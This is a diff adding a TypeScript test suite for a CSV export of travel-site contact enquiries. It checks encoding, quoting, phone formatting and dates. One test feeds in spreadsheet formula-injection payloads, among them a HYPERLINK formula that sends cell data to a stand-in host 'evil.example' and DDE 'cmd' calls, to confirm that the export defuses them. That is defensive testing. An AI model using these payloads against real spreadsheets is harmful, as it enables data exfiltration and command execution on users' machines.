@@ -1,0 +1,138 @@
+import { describe, expect, test } from "vitest";
+import type { Enquiry } from "./enquiry";
+import { contactsCsv } from "./export-csv";
+
+const enquiry: Enquiry = {
+  id: "8f14e45f-ceea-467f-a8ad-1b1e8a1f0c11",
+  created_at: "2026-11-20T06:14:09.123+00:00",
+  name: "Lucía Ferrer",
+  email: "lucia@correo.example",
+  phone: "600 000 001",
+  preferred_contact: null,
+  message: "Somos dos y querríamos ir en septiembre.",
+  language: "es",
+  source: "/es/contact?tour=namib",
+  state: "new",
+  answered_at: null,
+};
+
+/** Cells as an RFC 4180 parser reads them, without the byte order mark. */
+function read(csv: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  const cell = /"((?:[^"]|"")*)"(;|\r\n)/y;
+  cell.lastIndex = 1;
+  while (cell.lastIndex < csv.length) {
+    const at = cell.lastIndex;
+    const match = cell.exec(csv);
+    if (!match) throw new Error(`not a cell: ${csv.slice(at, at + 40)}`);
+    row.push((match[1] ?? "").replaceAll('""', '"'));
+    if (match[2] === ";") continue;
+    rows.push(row);
+    row = [];
+  }
+  return rows;
+}
+
+const cellOf = (changes: Partial<Enquiry>, column: number) =>
+  read(contactsCsv([{ ...enquiry, ...changes }]))[1]?.[column];
+
+describe("H12: enquiries as CSV", () => {
+  test("is UTF-8 with a byte order mark, has a Spanish heading, and ends every line with CRLF", () => {
+    const csv = contactsCsv([enquiry]);
+    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(csv.slice(1)).toBe(
+      '"Fecha";"Nombre";"Correo";"Teléfono";"Contacto preferido";"Mensaje";"Idioma";"Página";"Identificador"\r\n' +
+        '"20/11/2026 08:14";"Lucía Ferrer";"lucia@correo.example";"600 000 001";"";' +
+        '"Somos dos y querríamos ir en septiembre.";"Español";"/es/contact?tour=namib";' +
+        '"8f14e45f-ceea-467f-a8ad-1b1e8a1f0c11"\r\n',
+    );
+  });
+
+  test("without enquiries consists of the heading", () => {
+    expect(read(contactsCsv([]))).toHaveLength(1);
+  });
+
+  test.each([
+    ["quotation marks", 'Dijo "sí", y "no"'],
+    ["separators", "uno;dos,tres\tcuatro"],
+    ["lines", "uno\ndos\r\n\r\ntres\rcuatro"],
+    ["an end that looks like a cell's", 'fin";"otra'],
+    ["a backslash", "a\\"],
+    ["letters of every kind", "Étienne 😀 汉字 שלום"],
+    ["blanks around", "  hola  "],
+  ])("%s come back as they were", (_what, message) => {
+    expect(cellOf({ message }, 5)).toBe(message);
+    expect(read(contactsCsv([{ ...enquiry, message }, enquiry]))).toHaveLength(3);
+  });
+
+  test.each([
+    '=HYPERLINK("http://evil.example/?"&A1;"Premio")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+9)",
+    "=",
+  ])("%j runs nowhere, in whatever column it stands", (text) => {
+    for (const [field, column] of [
+      ["name", 1],
+      ["email", 2],
+      ["phone", 3],
+      ["preferred_contact", 4],
+      ["message", 5],
+      ["source", 7],
+    ] as const) {
+      expect(cellOf({ [field]: text }, column)).toBe(`'${text}`);
+    }
+  });
+
+  test.each([
+    ["Hola,=1+1", "Hola,'=1+1"],
+    ["Hola, @SUM(1+9)", "Hola, '@SUM(1+9)"],
+    ["Hola;-2+3", "Hola;'-2+3"],
+    ['Hola,"=1+1"', 'Hola,"\'=1+1"'],
+    ["Hola\t+1", "Hola\t'+1"],
+    ["Hola:\n=1+1\r\n- dos\r＝1", "Hola:\n'=1+1\r\n'- dos\r'＝1"],
+    ["Hola,\n;=1+1", "Hola,\n;'=1+1"],
+    ["=1+1,=2", "'=1+1,'=2"],
+    ["Somos 2+2, ida-vuelta: a@b.example", "Somos 2+2, ida-vuelta: a@b.example"],
+  ])("%j runs nowhere in a spreadsheet with another separator: %j", (message, cell) => {
+    expect(cellOf({ message }, 5)).toBe(cell);
+  });
+
+  test.each([
+    ["+34 600 000 001", "'+34 600 000 001"],
+    ["+34600000001", "'+34600000001"],
+    ["0600000001", "'0600000001"],
+    ["600000001", "'600000001"],
+    ["600 000 001", "600 000 001"],
+    ["(011) 000-0000", "(011) 000-0000"],
+    [null, ""],
+    ["", ""],
+  ])("the phone %j stays a text: %j", (phone, cell) => {
+    expect(cellOf({ phone }, 3)).toBe(cell);
+  });
+
+  test("keeps an apostrophe of the visitor", () => {
+    expect(cellOf({ name: "'Ana" }, 1)).toBe("'Ana");
+    expect(cellOf({ name: "D'Arc" }, 1)).toBe("D'Arc");
+  });
+
+  test("has blank cells for missing values", () => {
+    const row = { phone: null, preferred_contact: null, language: null, source: null };
+    expect([3, 4, 6, 7].map((column) => cellOf(row, column))).toEqual(["", "", "", ""]);
+  });
+
+  test.each([
+    ["2026-01-01T22:30:00+00:00", "02/01/2026 00:30"],
+    ["2026-07-01T23:59:59.999999+02:00", "01/07/2026 23:59"],
+  ])("%s is %s in Johannesburg", (created_at, shown) => {
+    expect(cellOf({ created_at }, 0)).toBe(shown);
+  });
+});
